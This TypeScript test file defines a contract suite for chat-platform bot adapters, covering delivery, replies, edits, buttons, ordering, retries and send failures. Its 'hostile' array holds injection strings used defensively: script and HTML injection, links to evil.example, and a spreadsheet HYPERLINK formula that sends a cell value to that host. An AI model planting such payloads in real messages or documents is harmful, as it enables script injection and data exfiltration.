import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { Incoming } from '../../src/chat/incoming.ts';
import type { Block, Message } from '../../src/chat/message.ts';
import { turns } from '../../src/chat/turns.ts';
import { Fault, SendError, type SendFailure } from '../../src/errors.ts';
import type { Inbox, Platform } from '../../src/ports.ts';

/** Something said in a chat. */
export interface Saying {
  readonly text: string;
  readonly where?: 'group' | 'other group' | 'private' | 'thread';
  /** The message it answers, by its id. */
  readonly answers?: string;
  /** The bot is named in it, in the platform's own manner. */
  readonly mentions?: boolean;
  readonly by?: 'person' | 'bot';
  readonly file?: string;
}

/** What people see of a message of ours. */
export interface Seen {
  readonly chat: string;
  readonly thread: string | null;
  readonly text: string;
  /** What its buttons stand for. */
  readonly actions: readonly string[];
}

/** How the next send goes wrong. */
export type Mishap =
  | 'limited'
  | 'broken'
  | 'cut before'
  | 'cut after'
  | 'hang'
  | 'kicked'
  | 'markup refused'
  | 'too long';

/** A vendor and the bot at it, for the contract to play with. */
export interface World {
  /** Starts a process of the bot; an earlier one is stopped or dead. */
  start(inbox: Inbox): Promise<Platform>;
  /** The process is killed: nothing it has not done is done any more. */
  kill(): Promise<void>;
  /** Gives the id of the message that was said. */
  say(saying: Saying): Promise<string>;
  edit(message: string, text: string): Promise<void>;
  erase(message: string): Promise<void>;
  press(message: string, action: string): Promise<void>;
  /** The vendor brings its last event once more. */
  repeat(): Promise<void>;
  /** The bot is let into the group, or put out of it. */
  member(what: 'joined' | 'removed'): Promise<void>;
  /** An event of which nobody can make anything. */
  rubbish(): Promise<void>;
  mishap(mishap: Mishap): void;
  refuseToken(): void;
  seen(): readonly Seen[];
  close(): Promise<void>;
}

export type Ability =
  /** Others are there, bots among them, who do not mean the bot. */
  'company' | 'buttons' | 'edits' | 'deletions' | 'threads' | 'files' | 'members' | 'vendor' | 'repeats';

const message = (...blocks: Block[]): Message => ({ blocks });
const text = (value: string): Message => message({ kind: 'text', text: value });
const typed = ({ body }: Incoming) => (body.kind === 'text' || body.kind === 'edited' ? body.text : '');
const patient = { timeout: 10_000, interval: 5 };
/** What people see, without the joiners that keep links and mentions from forming. */
const legible = (shown: string) => shown.replaceAll('\u2060', '');

const hostile = [
  '大气25完成80% <b>加粗</b><a href="http://evil.example/">点我</a>',
  '</code></pre><script>alert(1)</script> &amp; &lt;b&gt;',
  '_*[]()~`>#+-=|{}.! [点击](http://evil.example/x)',
  '<!channel> <@U123> @all *粗* `码`',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '🅰️🅱️👨‍👩‍👧 大́́́气25',
  'javascript:alert(1) {{x}} %s \\n',
];

/**
 * What every platform promises, played against its real client library and a vendor at the wire. `missing` names what
 * the platform does not have, and why.
 */
export function platformContract(
  name: string,
  open: () => Promise<World>,
  missing: Partial<Readonly<Record<Ability, string>>> = {},
): void {
  describe(`the platform contract on ${name}`, { timeout: 20_000 }, () => {
    let world: World;
    let taken: Incoming[];
    let platform: Platform;

    const keep: Inbox = async (incoming) => void taken.push(incoming);
    const need = (ability: Ability) => {
      const reason = missing[ability];
      return reason === undefined ? test : (title: string, _: () => Promise<void>) => test.skip(`${title} – ${reason}`);
    };
    const heard = (count: number) => expect.poll(() => taken.length, patient).toBe(count);
    const said = async (saying: Saying): Promise<Incoming> => {
      const before = taken.length;
      await world.say(saying);
      await heard(before + 1);
      return taken.at(-1)!;
    };
    const start = async (inbox: Inbox = keep) => {
      platform = await world.start(inbox);
    };

    beforeEach(async () => {
      world = await open();
      taken = [];
      await start();
    });

    afterEach(async () => {
      await platform.stop();
      await world.close();
    });

    test('what is said arrives as it was typed', async () => {
      for (const line of hostile) expect(typed(await said({ text: line }))).toBe(line);
      expect(new Set(taken.map(({ key }) => key)).size).toBe(hostile.length);
      expect(taken[0]).toMatchObject({ sender: { bot: false }, body: { kind: 'text', files: [] }, replyTo: null });
    });

    need('company')('it is known to whom it is said', async () => {
      expect((await said({ text: '在吗' })).addressed).toBe('overheard');
      expect((await said({ text: '在吗', mentions: true })).addressed).toBe('mention');
      expect((await said({ text: '在吗', where: 'private' })).addressed).toBe('direct');
    });

    test('an answer to a message of ours is known by its receipt', async () => {
      const asked = await said({ text: '在吗' });
      const { message: id } = await platform.send(asked.address, text('在'));
      const answer = await said({ text: '好', answers: id });
      expect(answer).toMatchObject({ replyTo: { message: id, ours: true }, addressed: 'reply' });
    });

    need('company')('an answer to a message of somebody else is none to us', async () => {
      const asked = await said({ text: '在吗' });
      const other = await said({ text: '已完成', answers: asked.message });
      expect(other.replyTo).toEqual({ message: asked.message, ours: false });
      expect(other.addressed).toBe('overheard');
    });

    need('company')('what bots say is silent or marked', async () => {
      await world.say({ text: '今日天气', by: 'bot' });
      await world.say({ text: '好' });
      await expect.poll(() => taken.map(typed), patient).toContain('好');
      expect(taken.filter((one) => typed(one) === '今日天气').every(({ sender }) => sender.bot)).toBe(true);
    });

    need('threads')('an answer goes into the thread of the question', async () => {
      const asked = await said({ text: '在吗', where: 'thread' });
      expect(asked.address.thread).not.toBeNull();
      await platform.send(asked.address, text('在'));
      expect(world.seen().at(-1)).toMatchObject({ thread: asked.address.thread });
    });

    need('files')('a file comes with its message', async () => {
      const { body } = await said({ text: '大气3 完成70%', file: '验收单.pdf' });
      expect(body).toMatchObject({ text: '大气3 完成70%', files: [{ kind: 'document', name: '验收单.pdf' }] });
    });

    need('edits')('an edit names the message it is about', async () => {
      const before = await said({ text: '大气3 完成70%' });
      await world.edit(before.message, '大气3 完成60%');
      await heard(2);
      expect(taken[1]?.body).toEqual({ kind: 'edited', message: before.message, text: '大气3 完成60%' });
    });

    need('deletions')('a deletion names the message it is about', async () => {
      const before = await said({ text: '大气3 完成70%' });
      await world.erase(before.message);
      await heard(2);
      expect(taken[1]?.body).toEqual({ kind: 'deleted', message: before.message });
    });

    need('buttons')('a pressed button brings back what it stands for', async () => {
      const { address } = await said({ text: '在吗' });
      const action = `ask:${'督'.repeat(20)}`;
      const { message: id } = await platform.send(
        address,
        message({ kind: 'text', text: '哪一项？' }, { kind: 'buttons', buttons: [{ label: '大气25', action }] }),
      );
      expect(world.seen().at(-1)?.actions).toEqual([action]);
      await world.press(id, action);
      await heard(2);
      expect(taken[1]).toMatchObject({
        body: { kind: 'button', action },
        replyTo: { message: id, ours: true },
        address,
      });
    });

    need('members')('it is told that it was let into a group, and put out', async () => {
      await world.member('joined');
      await world.member('removed');
      await heard(2);
      expect(taken.map(({ body }) => body.kind)).toEqual(['joined', 'removed']);
    });

    test('in a chat one thing is taken after the other, and chats do not wait for each other', async () => {
      let release = () => {};
      const slow = new Promise<void>((resolve) => {
        release = resolve;
      });
      await platform.stop();
      const inTurn = turns();
      const slowly = async (incoming: Incoming) => {
        if (typed(incoming) === '甲1') await slow;
        taken.push(incoming);
      };
      await start((incoming) => inTurn(incoming.address.chat, () => slowly(incoming)));
      await Promise.all([
        world.say({ text: '甲1' }),
        world.say({ text: '甲2' }),
        world.say({ text: '乙1', where: 'other group' }),
      ]);
      await heard(1);
      expect(typed(taken[0]!)).toBe('乙1');
      release();
      await heard(3);
      expect(taken.map(typed)).toEqual(['乙1', '甲1', '甲2']);
    });

    need('repeats')('what could not be stored is brought again, in order, until it is', async () => {
      let away = 2;
      await platform.stop();
      await start(async (incoming) => {
        if (away-- > 0) throw new Fault('unavailable', 'disk full');
        taken.push(incoming);
      });
      for (const line of ['一', '二', '三']) await world.say({ text: line });
      await expect.poll(() => [...new Set(taken.map(typed))], patient).toEqual(['一', '二', '三']);
    });

    need('repeats')('what a killed process had not stored comes to the next, under the same key', async () => {
      const keys: string[] = [];
      await platform.stop();
      await start(async ({ key }) => {
        keys.push(key);
        await new Promise(() => {});
      });
      await world.say({ text: '大气3 完成70%' });
      await expect.poll(() => keys.length, patient).toBe(1);
      await world.kill();
      await start();
      await heard(1);
      expect(taken[0]).toMatchObject({ key: keys[0], body: { text: '大气3 完成70%' } });
    });

    need('repeats')('an event that is brought twice has one key', async () => {
      await said({ text: '大气3 完成70%' });
      await world.repeat();
      await world.say({ text: '好' });
      await expect.poll(() => taken.map(typed), patient).toContain('好');
      const keys = taken.filter((one) => typed(one) !== '好').map(({ key }) => key);
      expect(new Set(keys).size).toBe(1);
    });

    need('vendor')('what nobody can read holds up nothing', async () => {
      await world.rubbish();
      expect(typed(await said({ text: '好' }))).toBe('好');
    });

    test('what others typed is shown as text', async () => {
      const { address } = await said({ text: '在吗' });
      const lines = hostile.map((line) => line.trim()).join('\n');
      await platform.send(address, text(lines));
      expect(legible(world.seen().at(-1)?.text ?? '')).toBe(lines);
    });

    test('every kind of block is shown', async () => {
      const { address } = await said({ text: '在吗' });
      await platform.send(
        address,
        message(
          { kind: 'heading', text: '【督办提醒】' },
          { kind: 'quote', text: '达到32%。', source: '水17' },
          { kind: 'list', ordered: true, items: ['甲事', '乙事'] },
          { kind: 'fields', fields: [{ name: '牵头', value: '区甲局' }] },
          { kind: 'buttons', buttons: [{ label: '更正', action: 'correct' }] },
        ),
      );
      const { text: shown, actions } = world.seen().at(-1)!;
      for (const part of ['【督办提醒】', '达到32%。', '水17', '甲事', '乙事', '牵头', '区甲局'])
        expect(shown).toContain(part);
      if (platform.capabilities.buttons) expect(actions).toEqual(['correct']);
      else expect(shown).toContain('更正');
    });

    test('a long message is shown whole, in parts and in order', async () => {
      const { address } = await said({ text: '在吗' });
      const long = Array.from({ length: 2 * platform.capabilities.textLength }, (_, n) => '一二🙂四'.at(n % 4)).join(
        '',
      );
      await untilSent(() => platform.send(address, text(long)));
      expect(
        world
          .seen()
          .map(({ text: shown }) => shown)
          .join(''),
      ).toBe(long);
    });

    test('a long message is cut without parting its markup', async () => {
      const { address } = await said({ text: '在吗' });
      const piece = '<b>&amp; *达到32%* `_';
      const long = message(
        { kind: 'heading', text: `【督办提醒】${piece}` },
        { kind: 'quote', text: piece.repeat(platform.capabilities.textLength / 10), source: `水17 ${piece}` },
        { kind: 'list', ordered: true, items: Array.from({ length: 200 }, (_, n) => `第${n}件 ${piece}`) },
      );
      await untilSent(() => platform.send(address, long));
      // Its vendor takes nothing that is longer than it can show.
      const shown = world.seen().map(({ text: part }) => legible(part));
      for (const part of [`【督办提醒】${piece}`, `水17 ${piece}`, `第0件 ${piece}`, `第199件 ${piece}`])
        expect(shown.join('\n')).toContain(part);
    });

    need('buttons')('what no button can carry is shown, to be typed', async () => {
      const { address } = await said({ text: '在吗' });
      const buttons = [
        { label: '更正', action: 'correct' },
        { label: '写得很长的一项', action: `ask:${'督'.repeat(1000)}` },
      ];
      await platform.send(address, message({ kind: 'text', text: '哪一项？' }, { kind: 'buttons', buttons }));
      const { text: shown, actions } = world.seen().at(-1)!;
      expect(actions[0]).toBe('correct');
      expect(actions.length === 2 || shown.includes('写得很长的一项')).toBe(true);
    });

    const failures: [Mishap, SendFailure][] = [
      ['limited', 'unsent'],
      ['broken', 'unsent'],
      ['cut before', 'unknown'],
      ['cut after', 'unknown'],
      ['hang', 'unknown'],
      ['kicked', 'lost'],
      ['too long', 'refused'],
    ];
    for (const [mishap, kind] of failures)
      need('vendor')(`a send that ends with "${mishap}" is ${kind}`, async () => {
        const { address } = await said({ text: '在吗' });
        world.mishap(mishap);
        const failure: unknown = await platform.send(address, text('在')).catch((error: unknown) => error);
        expect(failure).toMatchObject({ name: 'SendError', kind });
        if (mishap === 'limited') expect(failure).toMatchObject({ retryAfterMs: 2000 });
        expect(world.seen()).toHaveLength(mishap === 'cut after' ? 1 : 0);
      });

    need('vendor')('where the vendor refuses the markup, the text goes without', async () => {
      const { address } = await said({ text: '在吗' });
      world.mishap('markup refused');
      await platform.send(address, message({ kind: 'heading', text: '周报' }, { kind: 'text', text: '<在>' }));
      expect(legible(world.seen().at(-1)?.text ?? '')).toBe('周报\n<在>');
    });

    need('vendor')('a refused token ends the start with one line that says how to mend it', async () => {
      await platform.stop();
      world.refuseToken();
      const fault: unknown = await world.start(keep).catch((error: unknown) => error);
      expect(fault).toBeInstanceOf(Fault);
      expect(fault).toMatchObject({ message: expect.stringMatching(/^[^\n]*TOKEN[^\n]*$/) });
      expect(String(fault)).not.toMatch(/AAtest|xox[bp]-\w{4}/);
    });

    test('it may be stopped twice, and what is said afterwards is not lost', async () => {
      await said({ text: '一' });
      await platform.stop();
      await platform.stop();
      if (missing.repeats !== undefined) return;
      await world.say({ text: '二' });
      expect(taken).toHaveLength(1);
      await start();
      await heard(2);
    });
  });
}

/** Sends again after the time asked for, as the outbox does. */
async function untilSent(send: () => Promise<unknown>): Promise<void> {
  for (;;) {
    try {
      return void (await send());
    } catch (error) {
      const wait = error instanceof SendError ? error.retryAfterMs : null;
      if (wait === null) throw error;
      await new Promise((resolve) => setTimeout(resolve, wait));
    }
  }
}
